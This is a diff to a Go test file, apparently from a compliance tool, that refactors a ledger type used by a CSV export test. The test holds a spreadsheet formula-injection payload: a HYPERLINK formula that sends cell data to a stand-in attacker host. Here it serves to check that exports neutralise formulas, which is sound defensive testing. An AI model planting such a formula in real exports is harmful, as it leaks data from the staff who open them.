@@ -11,16 +11,16 @@ import (
 	"time"
 
 	"github.com/tickmark-dev/tickmark/collectors"
-	"github.com/tickmark-dev/tickmark/internal/controls"
 	"github.com/tickmark-dev/tickmark/internal/controls/controlstest"
 	"github.com/tickmark-dev/tickmark/internal/export"
+	"github.com/tickmark-dev/tickmark/internal/readmodel"
 )
 
 // A collector (or the system it reads) controls subjects and item fields;
 // compliance staff open index.csv and population CSVs in a spreadsheet.
 const formula = `=HYPERLINK("http://attacker.example/?d="&A1,"open")`
 
-func hostileSource(t *testing.T) *controls.LedgerSource {
+func hostileSource(t *testing.T) *readmodel.Ledger {
 	t.Helper()
 	p := controlstest.Plan{Dir: t.TempDir(), Agent: "prod-1", From: date("2026-03-01"), To: date("2026-03-02"), Push: true,
 		Collectors: []controlstest.Collector{
@@ -37,7 +37,7 @@ func hostileSource(t *testing.T) *controls.LedgerSource {
 		t.Fatal(err)
 	}
 	t.Cleanup(b.Close)
-	return &controls.LedgerSource{L: b.Ledger, Store: b.Store, Layout: b.Layout}
+	return &readmodel.Ledger{L: b.Ledger, Store: b.Store, Layout: b.Layout}
 }
 
 // noFormula fails for any cell a spreadsheet would evaluate.
